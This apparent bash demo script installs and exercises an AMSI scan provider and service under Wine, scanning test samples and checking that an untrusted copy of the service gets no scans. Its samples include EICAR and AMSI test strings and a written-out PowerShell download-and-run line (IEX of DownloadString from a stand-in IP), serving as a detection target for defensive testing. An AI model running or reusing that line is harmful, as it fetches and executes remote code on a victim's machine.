#!/usr/bin/env bash
# The main job: install the provider and the scan service into the project's
# Wine prefix, register both DLLs, install the scan service as a Windows
# service and start it through the service control manager, scan the
# samples from a 64-bit and a 32-bit host (with clamd behind the service
# when it is installed), stop the service, show that a copy of the service
# in another directory is not trusted, and uninstall.
# Run by `make demo` after the build.
set -euo pipefail
here=$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)
export WINEPREFIX=${WINEPREFIX:-$here/build/wineprefix}
export WINEDEBUG=-all
run="$here/tools/wine-run"
x64="$here/build/x64/bin"
x86="$here/build/x86/bin"

drive_c="$WINEPREFIX/drive_c"
install_dir="$drive_c/Program Files/Kestrov"
install_win='C:\Program Files\Kestrov'
service_exe="$install_win\\KestrovScanService.exe"
data_dir="$drive_c/ProgramData/Kestrov"
data_win='C:\ProgramData\Kestrov'
rogue_dir="$drive_c/Kestrov-copy"
rogue_win='C:\Kestrov-copy'
work="$here/build/demo"
"$here/tools/clamd.sh" stop "$work/clamd" 2>/dev/null || true
rm -rf "$work" "$rogue_dir"
mkdir -p "$work/samples" "$install_dir" "$data_dir"

# Whatever happens, the demo leaves nothing behind: a foreground copy is
# stopped, the Windows service stopped and deleted, and the prefix's Wine
# processes ended.
rogue_running=""
finish() {
  if [ -n "$rogue_running" ]; then
    "$run" "$rogue_win\\KestrovScanService.exe" --stop </dev/null >/dev/null 2>&1 || true
  fi
  if [ -f "$install_dir/KestrovScanService.exe" ]; then
    "$run" "$service_exe" --uninstall </dev/null >/dev/null 2>&1 || true
  fi
  wineserver -k >/dev/null 2>&1 || true
  "$here/tools/clamd.sh" stop "$work/clamd" >/dev/null 2>&1 || true
}
trap finish EXIT

# The service's state as the service control manager reports it.
service_state() {
  "$run" sc query KestrovScanService </dev/null 2>/dev/null | tr -d '\r' |
    sed -n 's/.*STATE *: *[0-9]* *\([A-Z_]*\).*/\1/p'
}
# Polled: the manager reports a state, it does not signal one.
wait_for_state() {
  for _ in $(seq 200); do
    [ "$(service_state)" = "$1" ] && return 0
    sleep 0.05
  done
  echo "demo: the service did not reach $1" >&2
  return 1
}
now_ms() { echo $(($(date +%s%N) / 1000000)); }
indent() { tr -d '\r' | sed 's/^/   /'; }

echo "== Installing into $install_win"
# A service left by an earlier run that died is removed first.
if [ -f "$install_dir/KestrovScanService.exe" ]; then
  "$run" "$service_exe" --uninstall </dev/null >/dev/null 2>&1 || true
fi
cp "$x64/KestrovAmsi64.dll" "$x86/KestrovAmsi32.dll" "$x64/KestrovScanService.exe" "$install_dir/"
"$run" 'C:\windows\system32\regsvr32.exe' /s "$install_win\\KestrovAmsi64.dll"
"$run" 'C:\windows\syswow64\regsvr32.exe' /s "$install_win\\KestrovAmsi32.dll"
echo "   registered KestrovAmsi64.dll (64-bit view) and KestrovAmsi32.dll (32-bit view)"
rm -f "$data_dir"/scans.jsonl*
printf '%s\r\n' '# Kestrov Scan Service; every key is an option of KestrovScanService --help.' \
  'log = scans.jsonl' 'log-max-bytes = 10485760' 'log-files = 5' >"$data_dir/KestrovScanService.conf"
# clamd, when it is installed: one of the demo's own on loopback, with the
# project's sample rules (a YARA rule among them), behind the service.
clamd_port=""
if command -v clamd >/dev/null 2>&1 || [ -x /usr/sbin/clamd ]; then
  if "$here/tools/clamd.sh" start "$work/clamd" "$here/tools/clamd-rules" >/dev/null; then
    clamd_port=$(cat "$work/clamd/port")
    printf '%s\r\n' "clamd = 127.0.0.1:$clamd_port" >>"$data_dir/KestrovScanService.conf"
    echo "   clamd on 127.0.0.1:$clamd_port with the rules of tools/clamd-rules, behind the service"
  fi
fi
[ -n "$clamd_port" ] || echo "   no clamd here: the built-in rules only"
"$run" "$service_exe" --install --config "$data_win\\KestrovScanService.conf" </dev/null 2>&1 | indent
echo "   configuration $data_win\\KestrovScanService.conf, scan log $data_win\\scans.jsonl"

echo "== Samples"
samples="$work/samples"
printf '%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' >"$samples/eicar.com"
# Script hosts hand scripts over as UTF-16: a byte order mark, then UTF-16LE.
printf '\xff\xfe' >"$samples/amsi-sample.ps1"
printf '%s\r\n' "Write-Host 'AMSI Test Sample: 7e72c3ce-861b-4339-8740-0ac1484c1386'" |
  iconv -f UTF-8 -t UTF-16LE >>"$samples/amsi-sample.ps1"
printf '%s\r\n' 'Get-ChildItem C:\Windows | Measure-Object' 'Write-Host "done"' >"$samples/clean.ps1"
# A download-and-run script, as a script host hands it over (UTF-16).
printf '\xff\xfe' >"$samples/downloader.ps1"
printf '%s\r\n' "\$u = 'http://198.51.100.7/stage2.ps1'" 'IEX (New-Object Net.WebClient).DownloadString($u)' |
  iconv -f UTF-8 -t UTF-16LE >>"$samples/downloader.ps1"
head -c $((9 * 1024 * 1024)) /dev/zero | tr '\0' 'a' >"$samples/large.txt"
sample_names="eicar.com amsi-sample.ps1 clean.ps1 downloader.ps1 large.txt"
for f in $sample_names; do
  printf '   %-16s %9d bytes\n' "$f" "$(stat -c %s "$samples/$f")"
done

echo "== Starting the service through the service control manager (net start)"
"$run" net start KestrovScanService </dev/null >/dev/null 2>&1
wait_for_state RUNNING
echo "   KestrovScanService: RUNNING"

# Scans one sample with one host; prints "verdict latency".
winepath_of() { echo "Z:${1//\//\\}"; }
scan() {
  local host=$1 file=$2 output status
  set +e
  output=$("$run" "$host/amsiscan.exe" --app "KestrovDemo" "$(winepath_of "$file")" </dev/null 2>&1)
  status=$?
  set -e
  local latency
  latency=$(sed -n 's/.* in \([0-9.]*\) ms.*/\1/p' <<<"$output" | tr -d '\r' | head -n 1)
  case $status in
    0) echo "not-detected ${latency:-?}" ;;
    1) echo "DETECTED ${latency:-?}" ;;
    *) echo "error(${status}) -" ;;
  esac
}

echo "== Scans"
printf '   %-16s  %-6s  %-12s  %s\n' sample host verdict latency
printf '   %-16s  %-6s  %-12s  %s\n' ---------------- ------ ------------ -------
for f in $sample_names; do
  for arch in x64 x86; do
    dir=$x64
    [ "$arch" = x86 ] && dir=$x86
    read -r verdict latency <<<"$(scan "$dir" "$samples/$f")"
    printf '   %-16s  %-6s  %-12s  %s ms\n' "$f" "$arch" "$verdict" "$latency"
  done
done

# The service writes its log behind the verdicts; its stop writes every line
# still queued.
echo "== Stopping the service through the service control manager (net stop)"
stop_started=$(now_ms)
"$run" net stop KestrovScanService </dev/null >/dev/null 2>&1
wait_for_state STOPPED
echo "   KestrovScanService: STOPPED, $(($(now_ms) - stop_started)) ms after net stop began"
echo "   the service logged $(wc -l <"$data_dir/scans.jsonl") scans; which engine found what:"
for f in $sample_names; do
  line=$(grep -F "samples\\\\$f\"" "$data_dir/scans.jsonl" | head -n 1)
  engine=$(sed -n 's/.*"engine":\("[^"]*"\|null\).*/\1/p' <<<"$line" | tr -d '"')
  rule=$(sed -n 's/.*"rule":\("[^"]*"\|null\).*/\1/p' <<<"$line" | tr -d '"')
  clamd=$(sed -n 's/.*"clamd":\("[^"]*"\|null\).*/\1/p' <<<"$line" | tr -d '"')
  printf '   %-16s engine %-5s rule %-38s clamd: %s\n' "$f" "$engine" "$rule" "$clamd"
done
echo "   the large file's entry:"
grep '"contentBytes":8388608' "$data_dir/scans.jsonl" | head -n 1 | indent

echo "== A copy of the service in another directory ($rogue_win), in the foreground"
mkdir -p "$rogue_dir"
cp "$x64/KestrovScanService.exe" "$rogue_dir/"
"$run" "$rogue_win\\KestrovScanService.exe" --log "$rogue_win\\scans.jsonl" \
  </dev/null >"$work/rogue.txt" 2>&1 &
rogue_running=1
for _ in $(seq 100); do
  grep -q 'serving' "$work/rogue.txt" 2>/dev/null && break
  sleep 0.1
done
grep -q 'serving' "$work/rogue.txt" || { cat "$work/rogue.txt" >&2; exit 1; }
read -r verdict latency <<<"$(scan "$x64" "$samples/eicar.com")"
# Stopped the way that works on every machine: --stop sets the stop event
# of the service that serves in the foreground, and waits until it is gone.
"$run" "$rogue_win\\KestrovScanService.exe" --stop </dev/null >/dev/null 2>&1
rogue_running=""
wait
received=0
[ -f "$rogue_dir/scans.jsonl" ] && received=$(wc -l <"$rogue_dir/scans.jsonl")
printf '   eicar.com from the x64 host: %s; scans the copy received: %s\n' "$verdict" "$received"

echo "== Uninstalling the service"
"$run" "$service_exe" --uninstall </dev/null 2>&1 | indent
